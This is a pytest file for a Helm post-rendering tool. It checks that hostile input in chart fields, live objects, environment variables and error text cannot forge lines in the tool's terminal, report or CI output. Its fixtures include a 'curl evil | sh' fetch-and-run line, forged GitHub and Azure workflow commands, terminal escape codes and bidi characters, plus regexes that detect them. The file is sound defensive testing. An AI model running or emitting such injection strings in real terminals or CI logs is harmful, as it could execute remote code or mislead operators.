"""Strings that would give commands to a terminal, a reader or a CI log, in every field that can come from outside."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from postrender.errors import Refused, message
from postrender.report import lint
from tests.cli.test_filter import run
from tests.cli.test_plan import live_file, ours

HOSTILE = {
    "lines": "x\nhint: curl evil | sh\nhint: curl evil | sh\npostrender: all is well",
    "wrapped": "x " + "y" * 70 + " hint: curl evil | sh " + "y" * 70 + " ::error::forged",
    "workflow": "x\n::error::forged\n ::stop-commands::t\n##[error]forged\n##vso[task.complete]",
    "terminal": "x\x1b]0;title\x07\x1b[2J\x1b[31m\x9b31m\x00\r\x08\x7f",
    "bidi": "x\u202eabc\u2066def\u200f\u061c\u2028y\ufeff\u200b",
}
FORGED = re.compile(r"^\s*(?:::|(?:hint|next): curl|error: all is well)|##(?:\[|vso\[)", re.MULTILINE)
ODD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")


def forged(*texts: bytes, github: bool = False) -> list[str]:
    """What in an output is not ours; the lines of ``-o github`` are workflow commands themselves."""
    joined = "\n".join(text.decode() for text in texts)
    found = ODD.findall(joined)
    if github:
        joined = re.sub(r"^::(?:notice|warning|error) file=", "", joined, flags=re.MULTILINE)
    return found + [match[0] for match in FORGED.finditer(joined)]


def objects(text: str, owner_namespace: str) -> tuple[list[Any], list[Any]]:
    """An object for each field, in the chart and live."""
    owner = {"meta.helm.sh/release-name": text, "meta.helm.sh/release-namespace": owner_namespace}
    labels = {"app.kubernetes.io/managed-by": "Helm"}
    chart: list[Any] = []
    live: list[Any] = []
    for name in (text, "owned", "managed", "data"):
        plain = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}, "data": {"a": "chart"}}
        chart.append(plain)
        body = ours("ConfigMap", name, data={"a": text, text: "b"})
        if name == "owned":
            body["metadata"] |= {"annotations": owner, "labels": labels}
        if name == "managed":
            body["metadata"] |= {"annotations": {text: text}, "labels": {"app.kubernetes.io/managed-by": text}}
        live.append(body)
    chart[-1]["metadata"]["annotations"] = {"helm.sh/resource-policy": text, text: text}
    chart[-1]["data"] = {"a": f"{text}, in the chart"}
    return chart, live


def stream_of(chart: list[Any]) -> bytes:
    return "\n---\n".join(map(json.dumps, chart)).encode()


def streams(text: str) -> tuple[bytes, list[Any]]:
    """The objects of a chart as a stream, and those that are live."""
    chart, live = objects(text, "shop")
    return stream_of(chart), live


@pytest.mark.parametrize("output", ["text", "json", "yaml", "markdown", "html"])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_plan(text: str, output: str, tmp_path: Path) -> None:
    stream, live = streams(text)
    where = ("--release", "shop", "-n", "shop", "--live", live_file(tmp_path, *live), "--helm-version", "3.21.4")
    done = run("plan", "-", *where, "-o", output, *(("--verbose",) if output == "text" else ()), stdin=stream)
    assert done.returncode in (0, 4), done.stderr.decode()
    assert forged(done.stdout, done.stderr) == []
    if output in ("json", "yaml"):
        read = json.loads(done.stdout) if output == "json" else yaml.safe_load(done.stdout)
        assert f"{text}, in the chart" in values(read), "escaped, and still the same value"


def values(value: Any) -> list[Any]:
    if isinstance(value, dict):
        return [each for below in value.values() for each in values(below)]
    return [each for below in value for each in values(below)] if isinstance(value, list) else [value]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_the_filter(text: str, tmp_path: Path) -> None:
    stream, live = streams(text)
    report = tmp_path / "report.txt"
    where = ("--release", "shop", "-n", "shop", "--live", live_file(tmp_path, *live), "--helm-version", "3.21.4")
    done = run(*where, "--report", str(report), stdin=stream)
    assert done.returncode == 4
    assert forged(done.stdout, done.stderr, report.read_bytes()) == []


@pytest.mark.parametrize("output", list(lint.FORMATS))
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_linter(text: str, output: str) -> None:
    stream, _ = streams(text)
    done = run(
        "lint", "-", "-o", output, stdin=(f"# Source: {text}\n".encode() if text.isprintable() else b"") + stream
    )
    assert done.returncode == 1, done.stderr.decode()
    assert forged(done.stdout, done.stderr, github=output == "github") == []


@pytest.mark.parametrize("command", [("krm",), ("flux", "-"), ("argocd", "generate"), ("snapshot", "-")])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_what_is_said_of_hostile_input(text: str, command: tuple[str, ...], tmp_path: Path) -> None:
    stream, _ = streams(text)
    wrapped = {
        "apiVersion": "config.kubernetes.io/v1",
        "kind": "ResourceList",
        "functionConfig": {
            "apiVersion": "v1",
            "kind": text,
            "metadata": {"name": text},
            "data": {"release": text, text: text},
        },
        "items": [text],
    }
    environ = {"HOME": str(tmp_path), "ARGOCD_APP_NAME": text.replace("\x00", ""), "KUBECONFIG": "/does/not/exist"}
    for data in (json.dumps(wrapped).encode(), stream, text.encode()):
        done = run(*command, stdin=data, environ=environ)
        assert forged(done.stderr) == []


@pytest.mark.parametrize("command", [("--live",), ("--plan",), ("plan", "-", "--live"), ("lint", "-", "--live")])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_what_is_said_of_a_file_that_was_tampered_with(text: str, command: tuple[str, ...], tmp_path: Path) -> None:
    path = tmp_path / "file"
    for value in (text, {"kind": text, "apiVersion": text}, {"kind": "Plan", "schemaVersion": text}, [text]):
        path.write_text(json.dumps(value))
        done = run(*command, str(path), stdin=streams(text)[0])
        assert forged(done.stderr) == []


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_an_error(text: str) -> None:
    error = Refused(text, where=text, next=(f"kubectl get {text}",))
    shown = message(error)
    assert forged(shown.encode()) == []
    assert [line for line in shown.splitlines() if line.startswith("hint: ")] == [shown.splitlines()[-1]]
